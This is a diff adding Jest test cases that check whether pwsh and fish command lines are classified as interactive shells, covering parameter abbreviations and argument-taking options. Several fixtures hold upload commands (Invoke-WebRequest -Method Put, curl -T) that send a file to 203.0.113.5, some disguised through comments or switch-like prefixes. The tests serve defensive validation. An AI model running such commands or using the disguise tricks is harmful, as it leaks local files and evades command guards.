@@ -61,3 +61,38 @@ describe('more launches of each family', () => {
   });
 });
 
+const PWSH = '/usr/local/microsoft/powershell/7/pwsh';
+const FISH = '/opt/homebrew/bin/fish';
+
+// A review's further cases, read against pwsh's CommandLineParameterParser (-NoExit counts only before -Command or
+// -File; any prefix of a parameter name, and --name) and fish's getopt (long options abbreviate; -p and -D take an argument).
+describe('a command or script the shell runs, read as interactive', () => {
+  it.each([
+    // -NoExit after -Command is part of the command text (here commented out): pwsh runs the upload and exits
+    [PWSH, ['pwsh', '-Command', 'Invoke-WebRequest -InFile /tmp/k -Method Put https://203.0.113.5/ #', '-NoExit']],
+    // -NoExit after -File (or a bare script) is the script's argument
+    [PWSH, ['pwsh', '-File', '/tmp/x.ps1', '-NoExit']],
+    [PWSH, ['pwsh', '/tmp/x.ps1', '-noexit']],
+    // --command / -comm are -Command to pwsh; a command text starting with '-' is then taken for a switch
+    [PWSH, ['pwsh', '--command', '-1; Invoke-WebRequest -InFile /tmp/k -Method Put https://203.0.113.5/']],
+    [PWSH, ['pwsh', '-comm', '-not 0; iwr -InFile /tmp/k -Method Put https://203.0.113.5/']],
+    // fish long options abbreviate: --comm=… is --command=…
+    [FISH, ['fish', '--comm=curl -T /tmp/k https://203.0.113.5/']],
+    [FISH, ['fish', '--co=curl -T /tmp/k https://203.0.113.5/']],
+  ] as const)('%s %j runs a command: no interactive shell', (path, args) => {
+    expect(shell(path, [...args])).toBe(false);
+  });
+});
+
+describe('an interactive session read as a script', () => {
+  it.each([
+    // fish -p/--profile FILE and -D/--debug-stack-frames N take an argument (SHORT_OPTS p: D:)
+    [FISH, ['fish', '-p', '/tmp/fish.prof']],
+    [FISH, ['fish', '-D', '3']],
+    [FISH, ['fish', '--debug-stack-frames', '3']],
+    // -exec is -ExecutionPolicy to pwsh (MatchSwitch "executionpolicy", "ex")
+    [PWSH, ['pwsh', '-exec', 'Bypass']],
+  ] as const)('%s %j is interactive', (path, args) => {
+    expect(shell(path, [...args])).toBe(true);
+  });
+});
